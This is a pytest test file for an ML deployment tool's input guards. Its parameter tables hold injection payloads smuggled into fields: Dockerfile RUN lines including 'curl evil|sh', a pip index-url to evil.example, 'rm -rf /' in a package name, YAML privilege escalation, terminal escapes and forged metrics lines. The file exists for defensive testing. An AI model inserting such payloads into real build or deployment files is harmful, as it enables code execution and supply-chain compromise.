"""Injection into generated files: a recorded environment or a deployment spec that tries to
add Dockerfile instructions, pip options or Kubernetes objects.

Each attack is refused when the record is written and, when it is written into the ledger
behind plinth's back (straight into the table with SQLAlchemy, as someone with write access
to a shared database could), refused again by ``deploy export`` and ``env export`` before
any file is written.
"""

from __future__ import annotations

import logging
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml

import plinth
from plinth.context import Context
from plinth.errors import UsageError
from plinth.guards.environments import (
    check_environment,
    check_image_reference,
    dockerfile_string,
    python_major_minor,
    requirement_line,
)
from plinth.ids import new_id
from plinth.ledger.tables import environments
from plinth.serving.export import export_deployment
from plinth.versioning import capture_environment, export_environment, save_environment
from plinth.versioning.env import check_recorded_environment

DIGEST = "ab" * 32
DOCKERFILE_PYTHON = "3.11\nFROM python AS pwn\nRUN touch /tmp/x\n#"
PIP_OPTION_VERSION = "1.16.0\n--index-url http://evil.example/simple"
GOOD: dict[str, Any] = {
    "digest": DIGEST,
    "python": "3.11.9",
    "platform": "Linux-6.1-x86_64-with-glibc2.36",
    "packages": {"numpy": "1.26.4", "torch": "2.3.1+cpu"},
    "extra": {"machine": "x86_64", "implementation": "cpython", "cuda": "12.4"},
}

# (field that must be named, the record's fields that differ from GOOD)
ATTACKS = [
    pytest.param("python", {"python": DOCKERFILE_PYTHON}, id="python-dockerfile-instructions"),
    pytest.param("python", {"python": "3.11 AS base"}, id="python-extra-words"),
    pytest.param(
        "packages.six",
        {"packages": {"six": PIP_OPTION_VERSION}},
        id="version-pip-index-url",
    ),
    pytest.param(
        "packages.six", {"packages": {"six": "1.16.0 ; os_name=='nt'"}}, id="version-env-marker"
    ),
    pytest.param("packages.six", {"packages": {"six": "1.16.0\r"}}, id="version-carriage-return"),
    pytest.param("packages", {"packages": {"six flask": "1.0"}}, id="name-with-space"),
    pytest.param("packages", {"packages": {"six;rm -rf /": "1.0"}}, id="name-with-semicolon"),
    pytest.param(
        "packages", {"packages": {"six @ http://evil.example/six.whl": "1.0"}}, id="name-direct-ref"
    ),
    pytest.param("packages", {"packages": {"-e": "1.0"}}, id="name-pip-option"),
    pytest.param("platform", {"platform": "Linux\nRUN curl evil|sh"}, id="platform-newline"),
    pytest.param("platform", {"platform": "Linux\x00"}, id="platform-nul"),
    pytest.param("platform", {"platform": "Linux\x1b[2J"}, id="platform-terminal-escape"),
    pytest.param("platform", {"platform": "Linux\u2028RUN id"}, id="platform-line-separator"),
    pytest.param("extra.cuda", {"extra": {"cuda": "12.4\nRUN id"}}, id="cuda-newline"),
    pytest.param("extra.driver", {"extra": {"driver": "550; rm"}}, id="driver-not-a-version"),
    pytest.param("extra.gpus", {"extra": {"gpus": ["H100\nRUN id"]}}, id="gpu-name-newline"),
    pytest.param("extra.editable", {"extra": {"editable": ["x\ny"]}}, id="editable-newline"),
    pytest.param("digest", {"digest": "ab\n" * 21}, id="digest-not-hex"),
]


def _record(**changes: Any) -> dict[str, Any]:
    return {**GOOD, **changes}


def _engine(project_dir: Path) -> sa.Engine:
    return sa.create_engine(f"sqlite:///{project_dir / '.plinth' / 'plinth.db'}")


def _rows(project_dir: Path) -> int:
    engine = _engine(project_dir)
    try:
        with engine.connect() as conn:
            return int(conn.execute(sa.select(sa.func.count()).select_from(environments)).scalar())
    finally:
        engine.dispose()


def _insert_raw(project_dir: Path, record: dict[str, Any]) -> str:
    """Write an environment row straight into the ledger's table, as an attacker would."""
    env_id = new_id()
    engine = _engine(project_dir)
    try:
        with engine.begin() as conn:
            conn.execute(
                environments.insert().values(
                    id=env_id, created_at=1, created_by="mallory", **record
                )
            )
    finally:
        engine.dispose()
    return env_id


def _tamper(project_dir: Path, env_id: str, **values: Any) -> None:
    engine = _engine(project_dir)
    try:
        with engine.begin() as conn:
            conn.execute(environments.update().where(environments.c.id == env_id).values(**values))
    finally:
        engine.dispose()


def _files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


# -- write time ------------------------------------------------------------------------------


@pytest.mark.parametrize(("field", "changes"), ATTACKS)
def test_injected_environment_is_refused_at_write_time_and_nothing_stored(
    project: Context, project_dir: Path, field: str, changes: dict[str, Any]
) -> None:
    before = _rows(project_dir)
    record = _record(**changes)
    with pytest.raises(UsageError) as caught:
        project.ledger.environments.put(
            record["digest"],
            python=record["python"],
            platform=record["platform"],
            packages=record["packages"],
            extra=record["extra"],
        )
    assert caught.value.field == field
    assert repr(field) in caught.value.message
    assert _rows(project_dir) == before


def test_the_clean_record_is_stored() -> None:
    # The attack table above differs from GOOD only in the attacked field.
    check_environment(**GOOD)


# -- export time, for records inserted behind plinth's back -----------------------------------


@pytest.mark.parametrize(("field", "changes"), ATTACKS)
@pytest.mark.parametrize("fmt", ["requirements", "dockerfile"])
def test_injected_environment_in_the_ledger_is_refused_by_env_export(
    project: Context, project_dir: Path, field: str, changes: dict[str, Any], fmt: str
) -> None:
    env_id = _insert_raw(project_dir, _record(**changes))
    record = project.ledger.environments.get(env_id)
    with pytest.raises(UsageError) as caught:
        export_environment(record, fmt)
    assert caught.value.field == field
    assert env_id in caught.value.message


def _run_with_raw_environment(project: Context, project_dir: Path, **changes: Any) -> str:
    env_id = _insert_raw(project_dir, _record(**changes))
    experiment = project.ledger.projects.ensure_experiment(project.project.id, "attack")
    return project.ledger.runs.create_run(experiment.id, environment_id=env_id).id


@pytest.mark.parametrize(
    ("field", "changes"),
    [
        pytest.param("python", {"python": DOCKERFILE_PYTHON}, id="python"),
        pytest.param("packages.six", {"packages": {"six": PIP_OPTION_VERSION}}, id="version"),
        pytest.param("packages", {"packages": {"six @ http://evil.example/x": "1"}}, id="name"),
        pytest.param("platform", {"platform": "Linux\rRUN id"}, id="platform"),
    ],
)
@pytest.mark.parametrize("fmt", ["requirements", "dockerfile"])
def test_env_export_cli_refuses_injected_record_exit_2_and_writes_no_file(
    project: Context,
    project_dir: Path,
    cli: Callable[..., Any],
    field: str,
    changes: dict[str, Any],
    fmt: str,
) -> None:
    run_id = _run_with_raw_environment(project, project_dir, **changes)
    result = cli("env", "export", run_id, "--format", fmt, "-o", "out.txt")
    assert result.code == 2
    assert f"field {field!r}" in result.err
    assert "pwn" not in result.out
    assert "--index-url" not in result.out
    assert not Path("out.txt").exists()
    # Printed to the terminal instead: still refused, nothing printed.
    result = cli("env", "export", run_id, "--format", fmt)
    assert result.code == 2
    assert result.out == ""


def test_env_show_refuses_terminal_escapes_in_a_tampered_record(
    project: Context, project_dir: Path, cli: Callable[..., Any]
) -> None:
    run_id = _run_with_raw_environment(project, project_dir, platform="Linux\x1b]2;pwned\x07")
    for args in (("env", "show", run_id), ("env", "show", run_id, "--json")):
        result = cli(*args)
        assert result.code == 2
        assert "field 'platform'" in result.err
        assert "\x1b" not in result.out + result.err


@pytest.fixture
def spec_file(project: Context) -> Path:
    """Model ``m`` (champion = version 1) logged in a run, and a deployment file serving it."""
    pd = pytest.importorskip("pandas")
    from sklearn.linear_model import LogisticRegression

    frame = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.0]})
    model = LogisticRegression().fit(frame, [0, 0, 1, 1])
    with plinth.start_run(experiment="t") as run:
        run.log_model(model, name="m", input_example=frame)
    plinth.models.set_alias("m", "champion", 1)
    path = Path("deployment.yaml")
    path.write_text("name: delays\nmodel: m@champion\n", encoding="utf-8")
    return path


def _model_environment_id(ctx: Context) -> str:
    version = plinth.models.get("m@champion", ctx=ctx)
    run = ctx.ledger.runs.get_run(version.run_id or "")
    env_id = version.environment_id or run.environment_id
    assert env_id is not None
    return env_id


@pytest.mark.parametrize(
    ("field", "column", "value"),
    [
        pytest.param("python", "python", DOCKERFILE_PYTHON, id="python"),
        pytest.param("platform", "platform", "Linux\nRUN touch /tmp/x", id="platform"),
        pytest.param("digest", "digest", "0" * 63 + "\n", id="digest"),
    ],
)
@pytest.mark.parametrize("target", ["kubernetes", "compose"])
def test_deploy_export_refuses_tampered_environment_and_writes_nothing(
    project: Context,
    project_dir: Path,
    spec_file: Path,
    tmp_path: Path,
    field: str,
    column: str,
    value: str,
    target: str,
) -> None:
    _tamper(project_dir, _model_environment_id(project), **{column: value})
    out = tmp_path / "out"
    with pytest.raises(UsageError) as caught:
        export_deployment(spec_file, target, out, ctx=project)
    assert caught.value.field == field
    assert _files(out) == []


def test_deploy_export_refuses_pip_option_in_a_tampered_version_and_writes_nothing(
    project: Context, project_dir: Path, spec_file: Path, tmp_path: Path
) -> None:
    env_id = _model_environment_id(project)
    packages = dict(project.ledger.environments.get(env_id).packages)
    packages["numpy"] = PIP_OPTION_VERSION
    _tamper(project_dir, env_id, packages=packages)
    out = tmp_path / "out"
    with pytest.raises(UsageError) as caught:
        export_deployment(spec_file, "kubernetes", out, ctx=project)
    assert caught.value.field == "packages.numpy"
    assert _files(out) == []


def test_deploy_export_cli_refuses_tampered_python_exit_2_naming_the_field(
    project: Context, project_dir: Path, spec_file: Path, cli: Callable[..., Any]
) -> None:
    _tamper(project_dir, _model_environment_id(project), python=DOCKERFILE_PYTHON)
    result = cli("deploy", "export", str(spec_file), "--target", "kubernetes", "-o", "d")
    assert result.code == 2
    assert "field 'python'" in result.err
    assert "control" in result.err
    assert not Path("d").exists()


# -- Kubernetes and compose YAML --------------------------------------------------------------


def test_image_name_with_yaml_injection_is_refused_and_nothing_written(
    project: Context, spec_file: Path, tmp_path: Path, cli: Callable[..., Any]
) -> None:
    out = tmp_path / "out"
    image = "delays:1\n    securityContext: {privileged: true}"
    with pytest.raises(UsageError) as caught:
        export_deployment(spec_file, "kubernetes", out, ctx=project, image=image)
    assert caught.value.field == "image"
    assert _files(out) == []
    result = cli("deploy", "export", str(spec_file), "--target", "kubernetes", "--image", image)
    assert result.code == 2
    assert "image" in result.err
    assert not Path("deploy-delays").exists()


@pytest.mark.parametrize(
    "name",
    ["delays\nkind: Pod", "delays\n", "delays: {x: 1}", "'delays'"],
    ids=["newline-key", "trailing-newline", "flow-mapping", "quoted"],
)
def test_deployment_name_with_yaml_injection_is_refused_and_nothing_written(
    project: Context, spec_file: Path, tmp_path: Path, name: str
) -> None:
    spec_file.write_text(yaml.safe_dump({"name": name, "model": "m@champion"}), encoding="utf-8")
    out = tmp_path / "out"
    with pytest.raises(UsageError) as caught:
        export_deployment(spec_file, "kubernetes", out, ctx=project)
    assert caught.value.field == "name"
    assert _files(out) == []


def test_spec_text_that_looks_like_yaml_documents_stays_one_configmap_value(
    project: Context, spec_file: Path, tmp_path: Path
) -> None:
    text = (
        "name: delays\nmodel: m@champion\n"
        '# "}]\n# ---\n# apiVersion: v1\n# kind: Secret\n# metadata: {name: pwn}\n'
    )
    spec_file.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    export_deployment(
        spec_file,
        "kubernetes",
        out,
        image="reg.example:5000/t/d:1",
        allow_embedded=True,
        ctx=project,
    )

    kinds = {}
    for path in sorted((out / "k8s").glob("*.yaml")):
        docs = list(yaml.safe_load_all(path.read_text(encoding="utf-8")))
        assert len(docs) == 1, path
        kinds[path.name] = docs[0]["kind"]
    assert kinds == {
        "configmap.yaml": "ConfigMap",
        "deployment.yaml": "Deployment",
        "hpa.yaml": "HorizontalPodAutoscaler",
        "kustomization.yaml": "Kustomization",
        "service.yaml": "Service",
    }
    configmap = yaml.safe_load((out / "k8s/configmap.yaml").read_text(encoding="utf-8"))
    assert configmap["data"] == {"deployment.yaml": text}
    deployment = yaml.safe_load((out / "k8s/deployment.yaml").read_text(encoding="utf-8"))
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert container["image"] == "reg.example:5000/t/d:1"
    assert container["securityContext"] == {
        "runAsNonRoot": True,
        "allowPrivilegeEscalation": False,
    }


def test_compose_binds_prometheus_and_grafana_to_loopback_without_anonymous_access(
    project: Context, spec_file: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out"
    export_deployment(spec_file, "compose", out, allow_embedded=True, ctx=project)
    text = (out / "compose.yaml").read_text(encoding="utf-8")
    services = yaml.safe_load(text)["services"]
    assert services["prometheus"]["ports"] == ["127.0.0.1:9090:9090"]
    assert services["grafana"]["ports"] == ["127.0.0.1:3000:3000"]
    grafana = services["grafana"]["environment"]
    assert grafana["GF_AUTH_ANONYMOUS_ENABLED"] == "false"
    assert grafana["GF_SECURITY_ADMIN_PASSWORD"].startswith("${GRAFANA_ADMIN_PASSWORD:?")
    assert "GF_AUTH_ANONYMOUS_ORG_ROLE" not in grafana
    # How to log in is written next to the services.
    assert "GRAFANA_ADMIN_PASSWORD" in text.split("services:")[0]
    assert "GRAFANA_ADMIN_PASSWORD" in (out / "plinth.env.example").read_text(encoding="utf-8")


# -- what real environments look like ---------------------------------------------------------


def test_this_virtualenv_validates_and_exports(project: Context) -> None:
    capture = capture_environment()
    check_recorded_environment(capture)
    stored = save_environment(capture, ctx=project)
    check_recorded_environment(stored)
    from packaging.requirements import Requirement

    lines = export_environment(stored, "requirements").splitlines()
    pins = [Requirement(ln.split("  #")[0]) for ln in lines if not ln.startswith("#")]
    assert {p.name for p in pins} == set(capture.packages)
    assert f"FROM python:{python_major_minor(capture.python)}-slim" in export_environment(
        stored, "dockerfile"
    )


@pytest.fixture
def odd_distributions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Installed metadata plinth cannot pin: a legacy version and a name with a space."""
    site = tmp_path / "site"
    for folder, name, version in [
        ("legacy_pkg-2004d.dist-info", "legacy-pkg", "2004d"),
        ("bad_name-1.0.dist-info", "bad name; x", "1.0"),
        ("local_pkg-2.1.0+cpu.dist-info", "local-pkg", "2.1.0+cpu"),
    ]:
        (site / folder).mkdir(parents=True)
        (site / folder / "METADATA").write_text(
            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", encoding="utf-8"
        )
    monkeypatch.setattr(sys, "path", [*sys.path, str(site)])
    capture_environment.cache_clear()
    yield site
    capture_environment.cache_clear()


def test_unpinnable_installed_packages_are_left_out_with_a_warning(
    odd_distributions: Path, project: Context, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="plinth.versioning"):
        capture = capture_environment()
    assert capture.packages["local-pkg"] == "2.1.0+cpu"  # local versions are PEP 440
    assert "legacy-pkg" not in capture.packages
    assert not any(" " in name for name in capture.packages)
    skipped = capture.extra["skipped_packages"]
    assert any(s.startswith("legacy-pkg: its version is '2004d'") for s in skipped)
    assert any("'bad name; x'" in s for s in skipped)
    assert "legacy-pkg" in caplog.text
    stored = save_environment(capture, ctx=project)  # and the rest is recorded
    assert "legacy-pkg" not in export_environment(stored, "requirements")


# -- the guard's helpers ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("python", "tag"),
    [("3.11.9", "3.11"), ("3.12.0rc1", "3.12"), ("3.13.0a2", "3.13"), ("3.14.0+", "3.14")],
)
def test_real_python_versions_are_accepted(python: str, tag: str) -> None:
    assert python_major_minor(python) == tag


@pytest.mark.parametrize(
    "version", ["2.3.1+cpu", "1.0.post1", "2026.10.19.post1", "0.1.0.dev0", "1!2.0", "1.0rc1"]
)
def test_pep440_versions_make_one_requirement_line(version: str) -> None:
    from packaging.requirements import Requirement

    line = requirement_line("Some_Package.x", version, where="t")
    assert line == f"Some_Package.x=={version}"
    assert str(Requirement(line).specifier) == f"=={version}"


def test_dockerfile_string_cannot_expand_variables_or_end_early() -> None:
    assert dockerfile_string('a"b $HOME\\', where="t", field="v") == '"a\\"b \\$HOME\\\\"'
    with pytest.raises(UsageError, match="control"):
        dockerfile_string("a\nRUN id", where="t", field="v")


@pytest.mark.parametrize(
    "image",
    ["Delays:1", "delays:1 --privileged", "delays:1\nkind: Pod", "delays:-bad", "", "a" * 300],
)
def test_malformed_image_references_are_refused(image: str) -> None:
    with pytest.raises(UsageError) as caught:
        check_image_reference(image)
    assert caught.value.field == "image"


def test_error_message_shows_the_attack_escaped_on_one_line() -> None:
    with pytest.raises(UsageError) as caught:
        check_environment(**_record(python=DOCKERFILE_PYTHON))
    line = caught.value.one_line()
    assert "\n" not in line
    assert "'3.11\\nFROM python AS pwn" in line  # shown escaped, as repr() writes it


# -- terminal escapes in records printed by runs show / models show / lineage ----------------

#: Retitles the window, paints red, then a carriage return and a fake status line.
TERMINAL_ATTACK = "\x1b]2;pwned\x07\x1b[31mred\rstatus  finished\x9b2J\u202e"
#: Rich markup that would become an OSC 8 hyperlink, and a closing tag that crashes Rich.
MARKUP_ATTACK = "[link=https://evil.example/]click[/link][/bold]"


def _no_escapes(text: str) -> None:
    for char in ("\x1b", "\x07", "\r", "\x9b", "\u202e"):
        assert char not in text, f"{char!r} reached the terminal"


def test_printable_shows_every_steering_character_escaped() -> None:
    from plinth.guards.terminal import printable, printable_data

    shown = printable(TERMINAL_ATTACK)
    _no_escapes(shown)
    assert shown.startswith("\\x1b]2;pwned\\x07\\x1b[31mred\\x0dstatus")
    assert shown.endswith("\\x9b2J\\u202e")
    assert printable("données été [x]") == "données été [x]"
    assert printable_data({"k\x1b": ["v\n", 1]}) == {"k\\x1b": ["v\\x0a", 1]}


def _tamper_table(project_dir: Path, table: sa.Table, **values: Any) -> None:
    engine = _engine(project_dir)
    try:
        with engine.begin() as conn:
            conn.execute(table.update().values(**values))
    finally:
        engine.dispose()


def test_runs_show_prints_terminal_escapes_and_markup_from_a_tampered_run_as_text(
    project: Context, project_dir: Path, cli: Callable[..., Any]
) -> None:
    from plinth.ledger.tables import artifacts, params, runs, tags

    (project_dir / "f.txt").write_text("x", encoding="utf-8")
    with plinth.start_run(experiment="t") as run:
        run.log_param("lr", 0.1)
        run.set_tag("team", "a")
        run.log_artifact(project_dir / "f.txt")
    _tamper_table(project_dir, runs, name="n" + TERMINAL_ATTACK, error="e" + MARKUP_ATTACK)
    _tamper_table(project_dir, params, value="p" + TERMINAL_ATTACK)
    _tamper_table(project_dir, tags, key="t" + MARKUP_ATTACK, value="v" + TERMINAL_ATTACK)
    _tamper_table(project_dir, artifacts, path="a" + TERMINAL_ATTACK)

    result = cli("runs", "show", run.id)
    assert result.code == 0, result.err
    _no_escapes(result.out + result.err)
    assert "n\\x1b]2;pwned\\x07\\x1b[31mred\\x0dstatus  finished" in result.out
    assert MARKUP_ATTACK in result.out  # shown as typed, not rendered as a link or a crash
    assert "https://evil.example/" in result.out
    assert result.out.count("\\x1b]2;pwned") == 4  # name, param, tag value, artifact path

    listed = cli("runs", "artifacts", run.id)
    assert listed.code == 0, listed.err
    _no_escapes(listed.out + listed.err)
    assert "a\\x1b]2;pwned" in listed.out


def test_models_show_and_card_print_terminal_escapes_from_a_tampered_version_as_text(
    spec_file: Path, project: Context, project_dir: Path, cli: Callable[..., Any]
) -> None:
    from plinth.ledger.tables import model_versions

    _tamper_table(project_dir, model_versions, description="d" + TERMINAL_ATTACK)
    for args in (("models", "show", "m@1"), ("models", "card", "m@1")):
        result = cli(*args)
        assert result.code == 0, result.err
        _no_escapes(result.out + result.err)
        assert "d\\x1b]2;pwned\\x07" in result.out


def test_lineage_prints_terminal_escapes_from_a_tampered_run_and_inputs_as_text(
    spec_file: Path, project: Context, project_dir: Path, cli: Callable[..., Any]
) -> None:
    from plinth.ids import now_ms
    from plinth.ledger.tables import runs
    from plinth.serving.predlog import PredictionLog

    digest = project.blobs.put_bytes(b"name: web\n").digest
    deployment = project.ledger.deployments.save(
        project.project.id, "web", digest, {"model": "m@1"}
    )
    log = PredictionLog(project, deployment)
    request_id = new_id()
    log.append(request_id, now_ms(), "m@1", {"a" + TERMINAL_ATTACK: [2.5]}, [1])
    log.close()
    _tamper_table(project_dir, runs, name="n" + TERMINAL_ATTACK)

    result = cli("lineage", request_id)
    assert result.code == 0, result.err
    _no_escapes(result.out + result.err)
    assert "n\\x1b]2;pwned" in result.out
    assert "a\\x1b]2;pwned" in result.out


def test_data_show_and_list_print_terminal_escapes_and_markup_from_a_tampered_version_as_text(
    project: Context, project_dir: Path, cli: Callable[..., Any]
) -> None:
    import pyarrow as pa

    from plinth.ledger.tables import dataset_versions

    plinth.datasets.save(pa.table({"a": [1, 2]}), "d", ctx=project)
    _tamper_table(project_dir, dataset_versions, message="m" + TERMINAL_ATTACK + MARKUP_ATTACK)
    for args in (("data", "show", "d@1"), ("data", "list")):
        result = cli(*args)
        assert result.code == 0, result.err
        _no_escapes(result.out + result.err)
        assert "\\x1b]2;pwned" in result.out
        assert "evil.example" in result.out  # the markup shown as typed, not a link


# -- Prometheus exposition from monitor reports ---------------------------------------------

FORGED_LINE = 'x"} 1\nplinth_forged{a="b'


def _report(monitor: str, results: Any, status: str = "alert") -> Any:
    from plinth.entities import MonitorReport

    return MonitorReport(
        id=new_id(),
        project_id="p",
        kind="monitor",
        monitor=monitor,
        status=status,
        rows=10,
        results=results,
        deployment_id=None,
        dataset=None,
        reference=None,
        window_start_ms=None,
        window_end_ms=None,
        drifted=None,
        drift_share=None,
        report_digest=None,
        spec=None,
        created_at=1_000,
        created_by="someone",
    )


def _drift(column: Any, method: Any = "ks", threshold: Any = 0.05, share: Any = 0.5) -> Any:
    return {
        "checks": [
            {
                "check": "drift",
                "status": "alert",
                "share": share,
                "columns": [
                    {
                        "column": column,
                        "method": method,
                        "threshold": threshold,
                        "statistic": 0.3,
                        "p_value": 0.01,
                    }
                ],
            },
            {"check": "performance", "metrics": {column: 0.5}},
        ]
    }


def _exposition(reports: list[Any]) -> str:
    from prometheus_client import CollectorRegistry, generate_latest

    from plinth.monitoring.gauges import MonitorGauges

    registry = CollectorRegistry()
    MonitorGauges(registry).update(reports)
    return generate_latest(registry).decode()


def test_metrics_line_forged_through_a_monitor_or_column_name_stays_a_label_value() -> None:
    from prometheus_client.parser import text_string_to_metric_families

    hostile = FORGED_LINE + "\r\\"
    text = _exposition([_report(hostile, _drift(FORGED_LINE, method="ks\n"))])
    families = {f.name: f for f in text_string_to_metric_families(text)}
    assert "plinth_forged" not in families
    assert not any(line.startswith("plinth_forged") for line in text.splitlines())
    [sample] = families["plinth_drift_score"].samples
    assert sample.labels == {"monitor": hostile, "column": FORGED_LINE, "method": "ks\n"}


@pytest.mark.parametrize(
    "results",
    [
        _drift("a", share="not a number"),
        _drift("a", threshold={"nested": 1}),
        {"checks": "not a list"},
        {"checks": [{"check": "drift", "columns": 5}]},
        {"checks": [{"check": "drift", "status": "alert", "columns": [{"column": "a"}]}]},
        {"checks": [{"check": "performance", "metrics": ["x"]}]},
        ["not", "a", "mapping"],
    ],
)
def test_forged_monitor_report_cannot_blank_the_gauges_of_other_monitors(results: Any) -> None:
    good = _report("real-monitor", _drift("delay"))
    text = _exposition([_report("forged", results, status="ok"), good])
    assert 'plinth_drift_score{column="delay",method="ks",monitor="real-monitor"}' in text
    assert 'plinth_monitor_status{monitor="real-monitor"} 1.0' in text
    assert 'plinth_monitor_status{monitor="forged"} 2.0' in text  # shown as an error
